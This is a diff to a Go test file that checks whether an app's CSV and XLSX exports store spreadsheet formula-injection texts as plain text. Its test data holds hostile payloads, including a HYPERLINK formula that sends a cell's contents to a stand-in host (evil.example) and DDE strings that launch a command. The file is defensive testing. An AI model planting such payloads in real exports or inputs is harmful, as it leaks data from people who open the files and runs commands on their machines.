@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -14,22 +15,30 @@ import (
 )
 
 // formulas are texts a spreadsheet would run if a cell began with them:
-// one for each character OWASP names (=, +, -, @, tab, carriage return),
-// and ones that would start a new cell after a separator or a line
-// break in the middle of a text.
+// one for each character OWASP names (=, +, -, @; a tab and a carriage
+// return are in noteFormulas, since a one-line text takes neither), and
+// ones that would start a new cell after a separator in the middle of a
+// text.
 var formulas = []string{
 	`=HYPERLINK("http://evil.example/?"&A2,"ouvrir")`,
 	`+cmd|' /C calc'!A0`,
 	`-2+3+cmd|' /C calc'!A0`,
 	`@SUM(1+1)*cmd|' /C calc'!A0`,
-	"\t=1+2",
-	"\r=1+2",
 	"Réunion;=1+2",
 	"Réunion,=1+2",
-	"Réunion\n=1+2",
 	`Réunion;"=1+2"`,
 	" =1+2",
 	"Gao, -Mopti",
+}
+
+// noteFormulas are formulas behind a tab or a line break, which only a
+// text of several lines (a commitment's text, a note) may hold. A lone
+// carriage return is refused by the domain; texts stored before it was
+// are written safely too (csvcell's own test).
+var noteFormulas = []string{
+	"\t=1+2",
+	"Réunion\n=1+2",
+	"Réunion\r\n=1+2",
 }
 
 // triggers begin a formula in a cell (OWASP's list, the line feed
@@ -49,7 +58,11 @@ func TestEveryExportHoldsFormulasAsText(t *testing.T) {
 			if status != 200 {
 				t.Fatalf("%s: %d %s", url, status, body)
 			}
-			checkCellsAreText(t, url, body, sep == "semicolon", formulas)
+			texts := formulas
+			if strings.HasPrefix(path, "/export/commitments") {
+				texts = append(slices.Clip(formulas), noteFormulas...)
+			}
+			checkCellsAreText(t, url, body, sep == "semicolon", texts)
 			checkNoCellStartsAFormula(t, url, body)
 		}
 		checkXLSXHoldsTextsNotFormulas(t, e, strings.Replace(path, ".csv", ".xlsx", 1))
@@ -92,6 +105,7 @@ func checkXLSXHoldsTextsNotFormulas(t *testing.T, e *env, url string) {
 // groups), dialogues and commitments whose texts are formulas.
 func writeFormulas(t *testing.T, e *env) {
 	t.Helper()
+	var holders []string
 	for _, f := range formulas {
 		holder, space := newID(), newID()
 		e.must(e.advocacy, `mutation($c: ID!, $n: String!) { registerStakeholder(commandId: $c, input: {name: $n, type: MAYOR, level: LOCAL, region: "gao"}) { id } }`,
@@ -102,6 +116,11 @@ func writeFormulas(t *testing.T, e *env) {
 		    title: $f, locality: $f, topics: [$f], headcount: {adultMen: 3}}) { id } }`, map[string]any{"c": newID(), "s": space, "f": f})
 		e.must(e.advocacy, `mutation($c: ID!, $h: ID!, $f: String!) { makeCommitment(commandId: $c, input: {stakeholderId: $h, text: $f, pillar: SECURITY, madeOn: "2025-03-02"}) { id } }`,
 			map[string]any{"c": newID(), "h": holder, "f": f})
+		holders = append(holders, holder)
+	}
+	for i, f := range noteFormulas {
+		e.must(e.advocacy, `mutation($c: ID!, $h: ID!, $f: String!) { makeCommitment(commandId: $c, input: {stakeholderId: $h, text: $f, pillar: SECURITY, madeOn: "2025-03-02"}) { id } }`,
+			map[string]any{"c": newID(), "h": holders[i], "f": f})
 	}
 }
 
@@ -128,7 +147,7 @@ func checkCellsAreText(t *testing.T, url string, body []byte, semicolon bool, te
 		}
 	}
 	for _, text := range texts {
-		want := neutralisedText(text)
+		want := strings.ReplaceAll(neutralisedText(text), "\r\n", "\n") // a CSV reader reads a quoted CRLF as LF
 		if !found[want] && !strings.Contains(fmt.Sprint(records), want) {
 			t.Errorf("%s: no cell holds %q as text %q", url, text, want)
 		}
